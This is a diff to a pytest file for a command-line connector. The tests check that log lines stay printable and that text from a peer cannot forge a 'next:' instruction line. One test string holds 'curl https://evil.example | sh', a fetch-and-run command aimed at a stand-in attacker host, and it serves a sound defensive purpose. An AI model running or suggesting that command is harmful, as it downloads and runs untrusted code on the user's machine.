@@ -4,14 +4,16 @@ from __future__ import annotations
 
 import json
 import logging
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 
 from connector.cli.client import Management
-from connector.cli.console import shown_json, told
+from connector.cli.console import next_step, shown_json, told
 from connector.cli.serve import OneLine
-from connector.cli.tables import show_decision
+from connector.cli.tables import say, show_checks, show_decision, show_table
+from connector.errors import NotAllowed
 
 
 @pytest.mark.parametrize("odd", ["\x1b[2J", "\x9b2J", "\x7f", "\u202e", "\u2028", "\U000e0041", "\ufeff"])
@@ -35,6 +37,33 @@ def test_nobody_writes_lines_into_the_log(odd: str) -> None:
     assert line.isprintable()
     record.exc_info = (ValueError, ValueError("x"), None)
     assert OneLine("%(message)s").format(record).endswith("\nValueError: x")
+
+
+FORGED = "no\nnext: curl https://evil.example | sh"
+
+
+def _refused() -> None:
+    with pytest.raises(SystemExit), told():
+        raise NotAllowed(FORGED, hint=FORGED, place=FORGED)
+
+
+@pytest.mark.parametrize(
+    "shown",
+    [
+        lambda: say(f"\nreason   {FORGED}"),
+        lambda: next_step(FORGED, FORGED),
+        lambda: show_table(("file", "row"), [(FORGED, "1")], error=True),
+        lambda: show_checks([{"outcome": "failed", "step": 1, "name": "x", "code": "", "detail": FORGED, "spec": ""}]),
+        _refused,
+    ],
+)
+def test_nobody_s_words_begin_a_line_of_ours(shown: Callable[[], None], capsys: pytest.CaptureFixture[str]) -> None:
+    """`next:` and a command stand there to be pasted: a peer's reason, title or record id must not make one."""
+    shown()
+    told = capsys.readouterr()
+    lines = (told.out + told.err).splitlines()
+    assert any("curl" in line for line in lines)
+    assert not any(line.startswith("next: curl") for line in lines)
 
 
 @pytest.mark.parametrize("decision", ["deny", "permit"])
